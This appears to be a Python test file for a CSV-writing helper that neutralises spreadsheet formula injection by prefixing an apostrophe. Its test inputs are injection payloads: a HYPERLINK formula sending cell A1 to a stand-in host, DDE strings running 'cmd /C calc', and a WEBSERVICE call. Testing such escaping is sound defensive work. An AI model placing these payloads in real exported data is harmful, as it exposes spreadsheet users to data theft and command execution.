"""Cells of the flat tables."""

from __future__ import annotations

import pytest

from open_data.rows import written


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://a.example?"&A1)',
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-1\n+WEBSERVICE(A1)",
    ],
)
def test_a_title_is_no_formula(title: str) -> None:
    """What a spreadsheet would compute stands behind an apostrophe."""
    assert written((title,)) == [f"'{title}"]


@pytest.mark.parametrize("title", ["-M-", "+ de 18 ans", "L'Étranger (poche)", "1 = 1", "#1", ""])
def test_a_title_stays_as_it_is_said(title: str) -> None:
    """Signs that begin a title and call nothing."""
    assert written((title,)) == [title]


def test_what_is_no_text_is_no_formula() -> None:
    """Numbers below zero stay numbers."""
    assert written((-52.3, -1, True, None)) == ["-52.3", "-1", "true", ""]
